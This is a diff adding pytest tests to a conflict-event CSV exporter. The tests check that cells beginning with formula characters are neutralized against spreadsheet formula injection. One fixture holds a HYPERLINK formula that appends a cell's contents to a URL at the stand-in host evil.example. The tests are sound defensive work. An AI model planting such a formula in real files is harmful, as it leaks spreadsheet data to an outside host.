@@ -81,6 +81,30 @@ def test_acled_csv_has_acleds_columns_and_codes():
     assert empty["event_id_cnty"].startswith("XXX") and empty["event_date"] == "" and empty["latitude"] == ""
 
 
+def test_acled_csv_keeps_formulas_out_of_spreadsheets():
+    """A source named like a formula stays text when the export is opened in a spreadsheet; the
+    numbers (negative coordinates among them) stay numbers."""
+    event = kherson_shelling()
+    formula = Source(name='=HYPERLINK("http://evil.example/?"&A1,"open")', kind="milblogger", side="RU")
+    event.claims = [claim("-1 tank destroyed near Kherson.", '=HYPERLINK("http://evil.example","open")', formula)]
+    event.place.lon = -32.6169
+    _, data = written("acled-csv", [event])
+    [row] = csv.DictReader(io.StringIO(data.decode("utf-8")))
+    cells = [value for value in row.values() if value]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t"))]
+    assert row["longitude"] == "-32.6169"
+    assert "'=HYPERLINK" in row["source"]
+
+
+@pytest.mark.parametrize(("value", "cell"), [("=1+1", "'=1+1"), ("+7 km", "'+7 km"), ("-3", "-3"), ("-3.5e2", "-3.5e2"),
+                                             ("- a list item", "'- a list item"), ("@user", "'@user"),
+                                             ("\tx", "'\tx"), ("Kherson", "Kherson"), (-32.5, -32.5), ("", "")])
+def test_csv_cells_are_neutralized(value, cell):
+    from sitrep import csvsafe
+
+    assert csvsafe.neutralize(value) == cell
+
+
 def test_acled_event_ids_are_stable_and_distinct():
     first = export.acled_event_id("ev-0123456789abcdef", "UKR")
     assert first == export.acled_event_id("ev-0123456789abcdef", "UKR")
